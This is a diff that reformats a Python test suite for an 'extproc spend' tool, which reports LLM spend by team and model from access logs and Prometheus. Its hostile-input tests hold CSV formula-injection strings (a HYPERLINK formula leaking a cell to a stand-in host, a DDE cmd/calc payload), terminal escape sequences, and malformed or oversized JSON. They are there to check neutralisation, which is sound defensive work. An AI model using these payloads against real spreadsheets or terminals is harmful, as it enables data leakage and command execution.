@@ -1,4 +1,5 @@
 """``extproc spend``: per-team/model spend from access-log files and from a real Prometheus."""
+
 from __future__ import annotations
 
 import gzip
@@ -29,16 +30,40 @@ def iso(t: float) -> str:
     return datetime.fromtimestamp(t, UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")
 
 
-def entry(t: float, team: str | None, model: str | None, prompt: int | None, completion: int | None,
-          cost: float | None, *, user: str = "u1", provider: str = "openai", provider_model: str | None = None,
-          operation: str = "chat") -> dict[str, Any]:
+def entry(
+    t: float,
+    team: str | None,
+    model: str | None,
+    prompt: int | None,
+    completion: int | None,
+    cost: float | None,
+    *,
+    user: str = "u1",
+    provider: str = "openai",
+    provider_model: str | None = None,
+    operation: str = "chat",
+) -> dict[str, Any]:
     """One line as envoy/envoy.yaml's json_format writes it (unset metadata -> null)."""
     line: dict[str, Any] = {
-        "http_method": "POST", "path": "/v1/chat/completions", "user": user, "team": team, "request_id": "r",
-        "response_code": 200, "system_time": iso(t), "target_duration": 12, "upstream_name": "llm",
-        "total_tokens": None if prompt is None else prompt + (completion or 0), "prompt_tokens": prompt,
-        "completion_tokens": completion, "cached_tokens": None, "reasoning_tokens": None, "streaming": False,
-        "model": model, "provider_model": provider_model, "provider": provider, "operation": operation,
+        "http_method": "POST",
+        "path": "/v1/chat/completions",
+        "user": user,
+        "team": team,
+        "request_id": "r",
+        "response_code": 200,
+        "system_time": iso(t),
+        "target_duration": 12,
+        "upstream_name": "llm",
+        "total_tokens": None if prompt is None else prompt + (completion or 0),
+        "prompt_tokens": prompt,
+        "completion_tokens": completion,
+        "cached_tokens": None,
+        "reasoning_tokens": None,
+        "streaming": False,
+        "model": model,
+        "provider_model": provider_model,
+        "provider": provider,
+        "operation": operation,
     }
     if cost is not None:
         line["cost_usd"] = cost
@@ -98,8 +123,15 @@ def test_access_log_json_csv_and_grouping(tmp_path: Path, capsys: pytest.Capture
     rows = rows_by(out, "llm", "model")
     assert rows[("openai", "gpt-4o-mini")]["calls"] == 3
     assert rows[("openai", "gpt-4o-mini")]["cost_usd"] == pytest.approx(0.000801, abs=1e-12)
-    assert rows[("ollama", "llama3.2")] == {"llm": "ollama", "model": "llama3.2", "calls": 1, "input_tokens": 10,
-                                            "output_tokens": 5, "cost_usd": 0, "share": 0}
+    assert rows[("ollama", "llama3.2")] == {
+        "llm": "ollama",
+        "model": "llama3.2",
+        "calls": 1,
+        "input_tokens": 10,
+        "output_tokens": 5,
+        "cost_usd": 0,
+        "share": 0,
+    }
     assert json.loads(out)["total"]["calls"] == 5
     code, out, _ = spend(capsys, "--access-log", str(log), str(gz), "--by", "team", "user", "--format", "csv", *window)
     assert out.splitlines()[0] == "team,user,calls,input_tokens,output_tokens,cost_usd,share"
@@ -182,13 +214,19 @@ class Prometheus:
         if binary is None:
             pytest.fail("no prometheus binary: `make tools` (Debian package prometheus)")
         self.port = free_port()
-        cfg = {"global": {"scrape_interval": "1s"},
-               "scrape_configs": [{"job_name": "extproc", "static_configs": [{"targets": [target]}]}]}
+        cfg = {"global": {"scrape_interval": "1s"}, "scrape_configs": [{"job_name": "extproc", "static_configs": [{"targets": [target]}]}]}
         (workdir / "prometheus.yml").write_text(yaml.safe_dump(cfg))
         self.log = (workdir / "prometheus.log").open("wb")
         self.proc = subprocess.Popen(
-            [binary, f"--config.file={workdir / 'prometheus.yml'}", f"--storage.tsdb.path={workdir / 'tsdb'}",
-             f"--web.listen-address=127.0.0.1:{self.port}"], stdout=self.log, stderr=subprocess.STDOUT)
+            [
+                binary,
+                f"--config.file={workdir / 'prometheus.yml'}",
+                f"--storage.tsdb.path={workdir / 'tsdb'}",
+                f"--web.listen-address=127.0.0.1:{self.port}",
+            ],
+            stdout=self.log,
+            stderr=subprocess.STDOUT,
+        )
         wait_port(self.port, proc=self.proc, timeout=30)
         self.url = f"http://127.0.0.1:{self.port}"
 
@@ -240,8 +278,18 @@ def test_prometheus_and_access_log_agree_per_team(tmp_path: Path, capsys: pytest
                 dn, dp, dc, dusd = (now[0] - was[0], now[1] - was[1], now[2] - was[2], now[3] - was[3])
                 for k in range(dn):  # spread the increments over the calls
                     last = k == dn - 1
-                    lines.append(entry(time.time(), key[0], key[3], dp // dn + (dp % dn if last else 0),
-                                       dc // dn + (dc % dn if last else 0), dusd / dn, user=key[1], provider=key[2]))
+                    lines.append(
+                        entry(
+                            time.time(),
+                            key[0],
+                            key[3],
+                            dp // dn + (dp % dn if last else 0),
+                            dc // dn + (dc % dn if last else 0),
+                            dusd / dn,
+                            user=key[1],
+                            provider=key[2],
+                        )
+                    )
             prev = phase
             total = sum(v[3] for v in phase.values())
             prom.wait_value("sum(ai_cost_usd_total)", total)
@@ -272,25 +320,42 @@ def test_prometheus_and_access_log_agree_per_team(tmp_path: Path, capsys: pytest
 
 
 # ---- hostile inputs ---------------------------------------------------------------------------
-def test_csv_neutralises_formulas_and_no_control_character_reaches_the_terminal(
-        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_csv_neutralises_formulas_and_no_control_character_reaches_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """Client-chosen model names are text in a spreadsheet and inert on a terminal."""
-    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
-               "\tlead-tab", "\x1b]52;c;cHduZWQ=\x07\x1b[2Jclear", "bidi\u202eevil", "c1\x9bcsi"]
+    hostile = [
+        '=HYPERLINK("http://x.example/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\tlead-tab",
+        "\x1b]52;c;cHduZWQ=\x07\x1b[2Jclear",
+        "bidi\u202eevil",
+        "c1\x9bcsi",
+    ]
     log = write_log(tmp_path / "a.log", [entry(T0 + 10 + i, "t", m, 1, 1, 0.001 * (i + 1)) for i, m in enumerate(hostile)])
     window = ["--since", str(T0), "--until", str(T0 + 3600)]
     code, out, _ = spend(capsys, "--access-log", str(log), "--format", "csv", *window)
     assert code == 0
     import csv as csvmod
     import io as iomod
+
     cells = [row[0] for row in csvmod.reader(iomod.StringIO(out))][1:]
-    assert sorted(cells) == sorted([
-        "'" + hostile[0], "'" + hostile[1], "'-2+3", "'@SUM(A1)", "'\\x09lead-tab",
-        "\\x1b]52;c;cHduZWQ=\\x07\\x1b[2Jclear", "bidi\\u202eevil", "c1\\x9bcsi"])
+    assert sorted(cells) == sorted(
+        [
+            "'" + hostile[0],
+            "'" + hostile[1],
+            "'-2+3",
+            "'@SUM(A1)",
+            "'\\x09lead-tab",
+            "\\x1b]52;c;cHduZWQ=\\x07\\x1b[2Jclear",
+            "bidi\\u202eevil",
+            "c1\\x9bcsi",
+        ]
+    )
     for fmt in ("table", "csv"):
         code, out, _ = spend(capsys, "--access-log", str(log), "--format", fmt, *window)
         assert code == 0
-        assert not any(ord(c) < 0x20 and c != "\n" or 0x7f <= ord(c) <= 0x9f or c == "\u202e" for c in out), fmt
+        assert not any(ord(c) < 0x20 and c != "\n" or 0x7F <= ord(c) <= 0x9F or c == "\u202e" for c in out), fmt
         assert "\\x1b]52;c;cHduZWQ=\\x07" in out
     code, out, _ = spend(capsys, "--access-log", str(log), "--format", "json", *window)
     assert {r["model"] for r in json.loads(out)["rows"]} == set(hostile)  # JSON keeps the exact values (escaped)
@@ -302,9 +367,21 @@ def test_hostile_access_log_lines_are_skipped_and_counted(tmp_path: Path, capsys
     big = dict(entry(T0 + 12, "t", "m", 1, 1, 1e308))
     inf_tokens = dict(entry(T0 + 13, "t", "m", 10**400, 1, 0.5))  # an integer JSON accepts, no float holds
     neg = dict(entry(T0 + 14, "t", "m", -5, 1, 0.5))
-    extra = ("[" * 100_000 + "\n" + json.dumps(big) + "\n" + json.dumps(big) + "\n" + json.dumps(neg) + "\n"
-             + json.dumps(inf_tokens, default=str).replace('"prompt_tokens": ' + str(10**400), '"prompt_tokens": 1' + "0" * 400)
-             + "\n" + '{"model": "' + "x" * (2 << 20) + '"}\n')
+    extra = (
+        "[" * 100_000
+        + "\n"
+        + json.dumps(big)
+        + "\n"
+        + json.dumps(big)
+        + "\n"
+        + json.dumps(neg)
+        + "\n"
+        + json.dumps(inf_tokens, default=str).replace('"prompt_tokens": ' + str(10**400), '"prompt_tokens": 1' + "0" * 400)
+        + "\n"
+        + '{"model": "'
+        + "x" * (2 << 20)
+        + '"}\n'
+    )
     log = write_log(tmp_path / "a.log", TRAFFIC, extra=extra)
     code, out, err = spend(capsys, "--access-log", str(log), "--format", "json", "--since", str(T0), "--until", str(T0 + 3600))
     assert code == 0, err
@@ -319,9 +396,11 @@ def _spend_child(*argv: str, timeout: float = 60) -> tuple[int, str, str, int]:
 
     The peak is the process's own VmHWM (reset by exec), not ``ru_maxrss``: Linux carries that
     across fork and exec, so a child of a large pytest process would report the parent's size."""
-    code = ("import sys\nfrom extproc import cli\nrc = cli.main(['spend', *sys.argv[1:]])\nsys.stdout.flush()\n"
-            "hwm = next(int(l.split()[1]) for l in open('/proc/self/status') if l.startswith('VmHWM:'))\n"
-            "print('MAXRSS', hwm // 1024, file=sys.stderr)\nsys.exit(rc)\n")
+    code = (
+        "import sys\nfrom extproc import cli\nrc = cli.main(['spend', *sys.argv[1:]])\nsys.stdout.flush()\n"
+        "hwm = next(int(l.split()[1]) for l in open('/proc/self/status') if l.startswith('VmHWM:'))\n"
+        "print('MAXRSS', hwm // 1024, file=sys.stderr)\nsys.exit(rc)\n"
+    )
     p = subprocess.run([sys.executable, "-c", code, *argv], capture_output=True, text=True, timeout=timeout)
     err_lines = p.stderr.splitlines()
     assert err_lines and err_lines[-1].startswith("MAXRSS "), p.stderr[-2000:]
@@ -367,16 +446,50 @@ class Scripted:
 
 def _matrix(value: Any) -> bytes:
     """One series holding ``value``, as a range query's ``values`` and an instant query's ``value``."""
-    return json.dumps({"status": "success", "data": {"resultType": "matrix", "result": [
-        {"metric": {"__name__": "ai_cost_usd_total", "team": "a"}, "values": [[T0, value]], "value": [T0, value]}]}}).encode()
+    return json.dumps(
+        {
+            "status": "success",
+            "data": {
+                "resultType": "matrix",
+                "result": [{"metric": {"__name__": "ai_cost_usd_total", "team": "a"}, "values": [[T0, value]], "value": [T0, value]}],
+            },
+        }
+    ).encode()
 
 
-@pytest.mark.parametrize("answer", [
-    b"null", b'"x"', b'{"status": "success", "data": null}', b'{"status": "success", "data": {"result": null}}',
-    b"[" * 100_000, b'{"status": "success", "data": ' + b"[" * 100_000, _matrix("+Inf"), _matrix("NaN"),
-    _matrix("1e308"), _matrix("-1"), _matrix(None), _matrix([1]), b'{"status": "error", "error": "bad\\u001b[2J"}',
-], ids=["null", "string", "data-null", "result-null", "deep", "deep-data", "inf", "nan", "1e308", "negative",
-        "value-null", "value-list", "error-with-escape"])
+@pytest.mark.parametrize(
+    "answer",
+    [
+        b"null",
+        b'"x"',
+        b'{"status": "success", "data": null}',
+        b'{"status": "success", "data": {"result": null}}',
+        b"[" * 100_000,
+        b'{"status": "success", "data": ' + b"[" * 100_000,
+        _matrix("+Inf"),
+        _matrix("NaN"),
+        _matrix("1e308"),
+        _matrix("-1"),
+        _matrix(None),
+        _matrix([1]),
+        b'{"status": "error", "error": "bad\\u001b[2J"}',
+    ],
+    ids=[
+        "null",
+        "string",
+        "data-null",
+        "result-null",
+        "deep",
+        "deep-data",
+        "inf",
+        "nan",
+        "1e308",
+        "negative",
+        "value-null",
+        "value-list",
+        "error-with-escape",
+    ],
+)
 def test_a_hostile_prometheus_answer_is_one_error_line(answer: bytes, capsys: pytest.CaptureFixture[str]) -> None:
     prom = Scripted()
     try:
